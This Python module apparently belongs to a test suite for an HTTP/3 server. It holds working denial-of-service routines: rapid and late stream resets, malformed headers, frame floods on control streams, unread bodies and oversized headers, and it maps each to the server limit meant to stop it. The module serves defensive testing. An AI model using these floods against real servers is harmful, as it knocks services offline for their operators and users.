"""Attacks on HTTP/3 connections; see ``attacks``."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from aioquic.buffer import encode_uint_var
from wire_clients.h3 import H3Client

Attack = Callable[[H3Client, int], Iterator[None]]


def frame(kind: int, payload: bytes = b"") -> bytes:
    return encode_uint_var(kind) + encode_uint_var(len(payload)) + payload


def held_stream(peer: H3Client) -> int:
    return peer.open("POST", "/hold", end=False)


def may_open(peer: H3Client, stream: int) -> bool:
    """Whether the server has room for it: aioquic holds a stream back till then, but not what stops it."""
    return stream // 4 < peer.quic._remote_max_streams_bidi


def rapid_reset(peer: H3Client, amount: int) -> Iterator[None]:
    for number in range(amount):
        if peer.closed:
            return
        stream = peer.open("GET", "/")
        while not (peer.closed or may_open(peer, stream)):
            peer.poll(0.01)
        if not peer.closed:
            peer.reset(stream)
        if number % 20 == 0:
            yield


def late_reset(peer: H3Client, amount: int, burst: int = 50) -> Iterator[None]:
    for _ in range(amount // burst):
        if peer.closed:
            return
        streams = [peer.open("GET", "/hold") for _ in range(burst)]
        for _ in range(5):
            peer.poll(0.01)
        for stream in streams:
            if not peer.responses[stream].over:
                peer.reset(stream)
        yield


def wrong_lengths(peer: H3Client, amount: int) -> Iterator[None]:
    for number in range(amount):
        if peer.closed:
            return
        stream = peer.open("POST", "/hold", [(b"content-length", b"1")], end=False)
        peer.send(stream, b"too much", end=True)
        if number % 20 == 0:
            yield


def malformed_heads(peer: H3Client, amount: int) -> Iterator[None]:
    for number in range(amount):
        if peer.closed:
            return
        peer.open("GET", "/", [(b"Upper", b"case")])
        if number % 20 == 0:
            yield


def _flood(peer: H3Client, stream: int, data: bytes, amount: int) -> Iterator[None]:
    for _ in range(max(amount // 100, 1)):
        if peer.closed:
            return
        peer.quic.send_stream_data(stream, data * 100)
        peer.flush()
        yield


def empty_data(peer: H3Client, amount: int) -> Iterator[None]:
    return _flood(peer, held_stream(peer), frame(0), amount)


def unknown_frames(peer: H3Client, amount: int) -> Iterator[None]:
    return _flood(peer, held_stream(peer), frame(0x21), amount)


def unknown_control_frames(peer: H3Client, amount: int) -> Iterator[None]:
    return _flood(peer, peer.h3._local_control_stream_id, frame(0x21), amount)


def goaways(peer: H3Client, amount: int) -> Iterator[None]:
    return _flood(peer, peer.h3._local_control_stream_id, frame(7, b"\x00"), amount)


def priority_updates(peer: H3Client, amount: int) -> Iterator[None]:
    stream = held_stream(peer)
    update = frame(0xF0700, encode_uint_var(stream) + b"u=1")
    return _flood(peer, peer.h3._local_control_stream_id, update, amount)


#: What must be thrown out, and by which limit.
THROWN_OUT: dict[Attack, str] = {
    rapid_reset: "max_resets",
    late_reset: "max_resets",
    wrong_lengths: "max_resets",
    malformed_heads: "max_resets",
    empty_data: "max_control_frames",
    unknown_frames: "max_control_frames",
    unknown_control_frames: "max_control_frames",
    goaways: "max_control_frames",
    priority_updates: "max_control_frames",
}


def unread_bodies(peer: H3Client, amount: int) -> Iterator[None]:
    """Bodies for an application that does not read: as much as the windows let in."""
    for _ in range(20):
        peer.send(peer.open("POST", "/hold", end=False), bytes(1 << 20))
        yield
    for _ in range(50):
        peer.poll(0.01)
        yield


def unread_answers(peer: H3Client, amount: int) -> Iterator[None]:
    """Large answers, of which the client takes what its windows hold."""
    for _ in range(90):
        peer.slow.add(peer.open("GET", "/large"))
        yield
    for _ in range(50):
        peer.poll(0.01)
        yield


def large_heads(peer: H3Client, amount: int) -> Iterator[None]:
    for request in range(90):
        fields = [(b"x-%d" % number, b"%d-%d-%d" % (id(peer), request, number) * 20) for number in range(100)]
        peer.open("GET", "/hold", fields)
        peer.poll(0.01)
        yield


BORNE: tuple[Attack, ...] = (unread_bodies, unread_answers, large_heads)
